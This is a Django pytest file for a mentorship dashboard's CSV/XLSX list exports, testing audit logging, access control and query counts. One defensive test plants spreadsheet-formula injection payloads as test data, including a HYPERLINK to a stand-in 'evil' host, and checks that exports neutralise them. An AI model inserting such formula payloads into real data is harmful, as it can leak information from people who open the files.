"""Every list of the dashboard can be taken along, by those who see it, and no cell calculates."""

import csv
import io
import re
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from mentorship.shared.audit.models import AuditEvent
from mentorship.shared.base import clock
from mentorship.shared.files.exports import Export, declared
from programs.models import Application, Review, User
from tests.cast import Troupe
from tests.factories.programs import ApplicationFactory, UserFactory
from tests.house.matrix import pages
from tests.house.routes import every_route
from tests.house.test_queries import is_list, more
from tests.house.world import furnish

ROUTES = {route.name: route for route in every_route()}
EXPORTS = declared()  # known once the routes are

# Pages of the dashboard with a list and no file of it, and why.
WITHOUT = {
    "desk-archive": "a few programs and cohorts, each with lists of its own",
    "desk-waiting": "the applications' file holds them: choose the status, ordered by the list",
    "desk-import-job": "rows of a file that the person has, with what is wrong in them",
    "desk-objectives": "a handful of aims, each with a page and figures of its own",
    "desk-program": "the program's own page; its members have a file",
    "desk-text": "versions of one text",
    "desk-second-factors": "who has a second factor is nobody's list to take away",
    "desk-meets": "a handful of rounds, each with a file of its meetings",
    "desk-compare": "made of runs, each with a file of its own",
    "desk-run-unmatched": "read one by one; the file of people tells who has no match",
    "desk-my-reviews": "a reviewer's own work; files of applications are the coordinators'",
}


def thing(one: Troupe, export: Export) -> Any:
    """What the address of this list names."""
    return {
        "desk-members": one.program,
        "desk-run-pairs": one.run,
        "desk-meet": one.cohort.meet_and_greets.filter(status="published").first() or one.cohort,
        "desk-survey": one.survey,
        "desk-applications": one.next_cohort,
        "desk-drafts": one.next_cohort,
        "desk-reviewers": one.next_cohort,
    }.get(export.page, one.cohort)


def address(one: Troupe, export: Export) -> str:
    return reverse(export.route, args=[thing(one, export).code])


def table(answer: Any) -> list[list[str]]:
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def full(here: Troupe) -> Troupe:
    """Something in every list."""
    furnish(here)
    ApplicationFactory(cohort=here.next_cohort, applicant=UserFactory(), status="draft", answers={})
    Review.objects.create(
        application=here.application,
        reviewer=here.coordinator,
        score=3,
        advice="yes",
        note="-a note",
        submitted_at=clock.now(),
    )
    return here


@pytest.mark.parametrize("export", EXPORTS, ids=lambda export: export.route)
@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_a_coordinator_takes_a_list_along_and_it_is_written_down(
    full: Troupe, as_coordinator: Client, export: Export, format: str
) -> None:
    answer = as_coordinator.post(address(full, export), {"format": format})

    assert answer.status_code == 200
    assert answer["Content-Disposition"].startswith("attachment")
    content = b"".join(answer.streaming_content)
    if format == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    else:
        rows = [list(row) for row in load_workbook(io.BytesIO(content)).active.values]
    event = AuditEvent.objects.filter(verb="list.exported").get()
    assert event.details == {"list": export.name, "format": format, "rows": len(rows) - 1}
    assert event.actor_code == full.coordinator.code
    assert event.program_code == full.program.code
    assert len(rows) > 1 or export.name in ("imports", "invitations"), "an empty list says nothing"


@pytest.mark.parametrize("export", EXPORTS, ids=lambda export: export.route)
def test_nobody_else_takes_it_along(
    full: Troupe, elsewhere: Troupe, export: Export, client: Client
) -> None:
    strangers = (full.reviewer, full.observer, elsewhere.coordinator)
    for person in strangers:
        client.force_login(person)
        assert client.post(address(full, export)).status_code == 404
    client.logout()
    assert client.post(address(full, export)).status_code == 302
    assert not AuditEvent.objects.filter(verb="list.exported").exists()


@pytest.mark.parametrize("export", EXPORTS, ids=lambda export: export.route)
def test_a_list_is_taken_by_a_button_only(
    here: Troupe, as_coordinator: Client, export: Export
) -> None:
    assert as_coordinator.get(address(here, export)).status_code == 405


@pytest.mark.parametrize("export", EXPORTS, ids=lambda export: export.route)
def test_a_list_holds_nothing_of_another_program_and_no_private_note(
    full: Troupe, elsewhere: Troupe, as_coordinator: Client, export: Export
) -> None:
    told = str(table(as_coordinator.post(address(full, export))))

    assert "walrus" not in told
    assert "heron notes" not in told
    assert "heron past notes" not in told


@pytest.mark.parametrize("export", EXPORTS, ids=lambda export: export.route)
def test_a_name_that_is_a_formula_does_not_calculate(
    full: Troupe, as_coordinator: Client, export: Export
) -> None:
    for person in User.objects.all():
        person.name = f'=HYPERLINK("http://evil/{person.pk}")'
        person.save()
    for application in Application.objects.all():
        application.answers = {"motivation": "@SUM(A1)", "skills_wanted": ["+1", "-2"]}
        application.save()

    for row in table(as_coordinator.post(address(full, export))):
        for cell in row:
            assert not re.match(r"\s*[=@+]|\s*-\D", cell), cell


@pytest.mark.parametrize("export", EXPORTS, ids=lambda export: export.route)
def test_the_number_of_queries_does_not_grow_with_the_rows(
    full: Troupe, as_coordinator: Client, export: Export, django_assert_max_num_queries: Any
) -> None:
    def queries() -> int:
        with django_assert_max_num_queries(40) as asked:
            table(as_coordinator.post(address(full, export)))
        return len([one for one in asked if "SAVEPOINT" not in one["sql"]])

    queries()
    few = queries()
    more(full)
    # Names and agreements of other kinds are asked for once they are there, however many.
    kinds = {"history": 2, "participants": 1}.get(export.name, 0)
    assert few <= queries() <= few + kinds


def test_every_page_with_a_list_has_a_file_or_a_reason() -> None:
    """A list is a page of the desk whose template pages through rows, or one that says so here."""
    listing = {
        page.name
        for page in pages()
        if page.name.startswith("desk-")
        and page.status.get("GET") == 200
        and is_list(ROUTES[page.name], ROUTES[page.name].address())
    }
    with_file = {export.page for export in EXPORTS}

    assert listing - with_file - WITHOUT.keys() == set()
    assert WITHOUT.keys() & with_file == set()


@pytest.mark.parametrize("export", EXPORTS, ids=lambda export: export.route)
def test_the_page_offers_its_file(full: Troupe, as_coordinator: Client, export: Export) -> None:
    page = as_coordinator.get(reverse(export.page, args=[thing(full, export).code])).text

    assert address(full, export) in page or export.name in ("imports", "invitations")


def test_the_audit_log_tells_of_it_in_a_sentence(full: Troupe, as_coordinator: Client) -> None:
    table(as_coordinator.post(reverse("desk-members-export", args=[full.program.code])))

    page = as_coordinator.get(reverse("desk-history", args=[full.cohort.code])).text
    assert "exported the list “members” as csv, 3 rows" in page
